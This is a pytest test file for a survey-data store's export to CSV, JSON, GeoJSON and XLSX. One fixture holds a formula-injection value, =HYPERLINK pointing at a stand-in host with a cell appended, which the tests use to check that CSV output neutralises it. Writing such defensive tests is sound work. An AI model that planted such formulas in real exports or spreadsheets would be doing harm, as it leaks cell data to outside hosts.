"""Export for analysis from a store: ODK Central's CSV layout (a table per form and per
repeat), GeoJSON of located submissions and JSON, written into a folder."""

import csv
import json

import pandas
import pytest

import minga


def path(name):
    return minga.AnswerPath(instances=[], name=name)


@pytest.fixture
def dialogue():
    return next(f for f in minga.builtin_forms() if f.id() == "minga_stakeholder_dialogue")


def test_csv_json_and_geojson_of_a_stores_submissions(store, dialogue, tmp_path):
    sid = store.create_submission(dialogue.form_ref())
    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text="GAD de Ibarra"))
    gone = store.create_submission(dialogue.form_ref())
    store.delete_submission(gone)
    seen = []

    class Progress(minga.ExportProgressListener):
        def on_progress(self, done, total):
            seen.append((done, total))

    files = store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path / "csv"), None, Progress())
    main = tmp_path / "csv" / "minga_stakeholder_dialogue.csv"
    assert str(main) in files and all(f.endswith(".csv") for f in files)
    rows = list(csv.DictReader(main.open(encoding="utf-8")))
    assert [(r["KEY"], r["convening_institution"]) for r in rows] == [(f"uuid:{sid}", "GAD de Ibarra")]
    assert seen == [(1, 1)]

    [written] = store.export([dialogue], minga.ExportFormat.JSON, str(tmp_path / "json"))
    exported = json.loads(open(written, encoding="utf-8").read())
    assert sid in json.dumps(exported) and gone not in json.dumps(exported)
    [geojson] = store.export([dialogue], minga.ExportFormat.GEO_JSON, str(tmp_path / "geo"))
    assert json.loads(open(geojson, encoding="utf-8").read())["type"] == "FeatureCollection"


def test_a_submission_of_a_form_not_given_is_refused_and_nothing_written(store, form, dialogue, tmp_path):
    store.create_submission(form)
    with pytest.raises(minga.MingaError.InvalidArgument, match="safety_walk"):
        store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path / "out"))
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []
    store.close()
    with pytest.raises(minga.MingaError.Closed):
        store.export([dialogue], minga.ExportFormat.JSON, str(tmp_path / "out"))


FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'


def answered_with_a_formula_and_a_place(store, dialogue):
    """A submission whose institution is text a spreadsheet would run, with a location."""
    sid = store.create_submission(dialogue.form_ref())
    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=FORMULA))
    where = minga.GeoPoint(latitude=-0.2299, longitude=-78.5, altitude=None, accuracy=4.5)
    store.set_answer(sid, path("location"), minga.Value.GEO_POINT(point=where))
    return sid


def test_an_analyst_reads_formulas_as_text_and_coordinates_as_numbers_in_pandas(store, dialogue, tmp_path):
    answered_with_a_formula_and_a_place(store, dialogue)
    store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path))
    table = pandas.read_csv(tmp_path / "minga_stakeholder_dialogue.csv")
    # The spreadsheet would run the formula; the export writes it as text a reader can undo.
    assert table["convening_institution"][0] == "'" + FORMULA
    assert table["place-location-Longitude"].dtype.kind == "f"
    assert table["place-location-Longitude"][0] == -78.5
    assert table["place-location-Latitude"][0] == -0.2299
    # GeoJSON: one flat property per CSV column, as QGIS shows fields, numbers as numbers.
    [geojson] = store.export([dialogue], minga.ExportFormat.GEO_JSON, str(tmp_path / "geo"))
    [feature] = json.loads(open(geojson, encoding="utf-8").read())["features"]
    properties = feature["properties"]
    assert not any(isinstance(v, (dict, list)) for v in properties.values())
    assert properties["place-location-Longitude"] == -78.5
    assert properties["convening_institution"] == FORMULA


def test_an_analyst_exports_only_approved_submissions_with_status_and_review_comment(store, dialogue, tmp_path):
    approved = store.create_submission(dialogue.form_ref())
    store.set_answer(approved, path("convening_institution"), minga.Value.TEXT(text="Política local"))
    store.set_review_state(approved, minga.ReviewState.APPROVED)
    store.add_review_comment(approved, "Completa", None)
    store.create_submission(dialogue.form_ref())
    store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path), review_state=minga.ReviewState.APPROVED)
    main = tmp_path / "minga_stakeholder_dialogue.csv"
    # The byte-order mark that lets Excel read "Política" as UTF-8; pandas skips it.
    assert main.read_bytes().startswith(b"\xef\xbb\xbf")
    table = pandas.read_csv(main)
    assert list(table["KEY"]) == [f"uuid:{approved}"]
    assert table.columns[0] == "SubmissionDate"
    assert table["convening_institution"][0] == "Política local"
    assert (table["Status"][0], table["ReviewState"][0], table["ReviewComment"][0]) == (
        "draft",
        "approved",
        "Completa",
    )


def test_an_analyst_opens_the_xlsx_export_with_text_as_typed_and_numbers_as_numbers(store, dialogue, tmp_path):
    sid = answered_with_a_formula_and_a_place(store, dialogue)
    [written] = store.export([dialogue], minga.ExportFormat.XLSX, str(tmp_path))
    assert written.endswith("minga_stakeholder_dialogue.xlsx")
    sheets = pandas.read_excel(written, sheet_name=None, engine="openpyxl")
    table = sheets["minga_stakeholder_dialogue"]
    csv_dir = tmp_path / "csv"
    store.export([dialogue], minga.ExportFormat.CSV, str(csv_dir))
    assert list(table.columns) == list(pandas.read_csv(csv_dir / "minga_stakeholder_dialogue.csv").columns)
    assert list(table["KEY"]) == [f"uuid:{sid}"]
    # A workbook's text cell never runs, so the text is exactly what was answered (no ' guard).
    assert table["convening_institution"][0] == FORMULA
    assert table["place-location-Longitude"].dtype.kind == "f"
    assert table["place-location-Longitude"][0] == -78.5


def test_labels_in_a_language_the_form_lacks_are_refused_naming_its_languages(store, dialogue, tmp_path):
    store.create_submission(dialogue.form_ref())
    with pytest.raises(minga.MingaError.InvalidArgument, match="Kichwa") as refused:
        store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path / "out"), labels_in="Kichwa")
    assert "its languages" in str(refused.value)
    assert not (tmp_path / "out").exists()
